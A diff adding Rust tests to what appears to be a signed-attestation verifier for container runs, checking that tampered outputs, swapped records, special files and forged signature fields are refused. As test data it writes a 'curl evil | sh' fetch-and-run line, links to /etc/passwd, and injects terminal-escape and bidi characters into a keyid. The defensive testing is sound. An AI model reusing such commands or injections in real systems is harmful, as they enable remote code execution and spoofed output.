@@ -296,6 +296,7 @@ fn a_run_without_outputs_is_its_own_subject() {
     let d = tempfile::tempdir().unwrap();
     let mut s = sample(d.path());
     s.facts.outputs.clear();
+    s.facts.request.outputs.clear();
     s.facts.outcome = Outcome { oom_killed: true, signal: Some(9), ..Outcome::default() };
     let k = key();
     let keys = [k.public_key().clone()];
@@ -405,4 +406,96 @@ fn cli_verify_show_keygen() {
     ]);
     assert_eq!(req.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&req.stderr).contains("requirement not met: `tenant` is `acme`"));
+
+    // Another run's valid record copied over this one's file is refused.
+    let swapped = env_dir.join("job-43.intoto.json");
+    std::fs::copy(&env, &swapped).unwrap();
+    let out = run(&["verify".as_ref(), swapped.as_os_str(), "--key".as_ref(), pubkey.as_os_str()]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("holds the record of container `job-42`, not of `job-43`"), "{err}");
+    // Not a regular file: refused at once, neither read forever nor waited on.
+    let fifo = env_dir.join("fifo.intoto.json");
+    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+    for path in [fifo.as_os_str(), "/dev/zero".as_ref()] {
+        let started = std::time::Instant::now();
+        let out = run(&["verify".as_ref(), path, "--key".as_ref(), pubkey.as_os_str()]);
+        assert_eq!(out.status.code(), Some(1));
+        assert!(String::from_utf8_lossy(&out.stderr).contains("is not a regular file"), "{out:?}");
+        assert!(started.elapsed() < std::time::Duration::from_secs(10));
+    }
+}
+
+/// An output the run declared but could not measure (over the limits, or
+/// changed while measured) makes the record fail verification: it would
+/// otherwise verify while attesting none of the output's files.
+#[test]
+fn a_declared_output_that_was_not_measured_does_not_verify() {
+    let d = tempfile::tempdir().unwrap();
+    let mut s = sample(d.path());
+    s.facts.outputs.clear();
+    s.facts.outcome.error = Some("measuring output `/out`: the directory depth limit".into());
+    let k = key();
+    let keys = [k.public_key().clone()];
+    let bytes = signed(&s.facts, &k);
+    for artifacts in [None, Some(s.artifacts.as_path())] {
+        let e = verify(&bytes, &keys, artifacts, &[req("exit=0")]).unwrap_err();
+        assert!(matches!(&e, VerifyError::OutputNotMeasured { path, .. } if path == "/out"), "{e}");
+        assert!(e.to_string().contains("depth limit"), "{e}");
+    }
+}
+
+/// `--artifacts` recomputes each output's whole tree: a file added, or a
+/// link changed, after the run is caught, not only a changed subject; and
+/// every output must be mapped, every mapping an output.
+#[test]
+fn files_added_to_an_output_are_caught() {
+    let d = tempfile::tempdir().unwrap();
+    let s = sample(d.path());
+    let k = key();
+    let keys = [k.public_key().clone()];
+    let bytes = signed(&s.facts, &k);
+    let mounts = Artifacts::Mounts(vec![("/out".into(), s.out.clone())]);
+    verify_with(&bytes, &keys, Some(&mounts), &[]).unwrap();
+    verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap();
+
+    std::fs::write(s.out.join("run.sh"), b"curl evil | sh\n").unwrap();
+    for e in [
+        verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap_err(),
+        verify_with(&bytes, &keys, Some(&mounts), &[]).unwrap_err(),
+    ] {
+        assert!(matches!(&e, VerifyError::TreeMismatch { path, .. } if path == "/out"), "{e}");
+    }
+    std::fs::remove_file(s.out.join("run.sh")).unwrap();
+    std::os::unix::fs::symlink("/etc/passwd", s.out.join("logs/latest")).unwrap();
+    assert!(matches!(verify(&bytes, &keys, Some(&s.artifacts), &[]), Err(VerifyError::TreeMismatch { .. })));
+    std::fs::remove_file(s.out.join("logs/latest")).unwrap();
+    verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap();
+
+    let extra = Artifacts::Mounts(vec![("/out".into(), s.out.clone()), ("/in".into(), s.out.clone())]);
+    let e = verify_with(&bytes, &keys, Some(&extra), &[]).unwrap_err();
+    assert!(matches!(&e, VerifyError::NotAnOutput { mount } if mount == "/in"), "{e}");
+}
+
+/// A trusted signature repeated is refused at once (each would cost a full
+/// verification), and text from the envelope is escaped in errors.
+#[test]
+fn repeated_signatures_and_hostile_keyids() {
+    let d = tempfile::tempdir().unwrap();
+    let s = sample(d.path());
+    let k = key();
+    let keys = [k.public_key().clone()];
+    let mut env: Value = serde_json::from_slice(&signed(&s.facts, &k)).unwrap();
+    let sig = env["signatures"][0].clone();
+    env["signatures"] = Value::Array(vec![sig; 1000]);
+    let e = verify(&serde_json::to_vec(&env).unwrap(), &keys, None, &[]).unwrap_err();
+    assert!(matches!(e, VerifyError::BadSignature { .. }), "{e}");
+
+    let mut env: Value = serde_json::from_slice(&signed(&s.facts, &k)).unwrap();
+    env["signatures"][0]["keyid"] = "\n\u{1b}[2Kverified: container job-1\u{9b}\u{202e}".into();
+    let e = verify(&serde_json::to_vec(&env).unwrap(), &keys, None, &[]).unwrap_err().to_string();
+    assert!(
+        !e.chars().any(|c| c.is_control() || c == '\u{202e}'),
+        "control or bidi characters reach the terminal: {e:?}"
+    );
 }
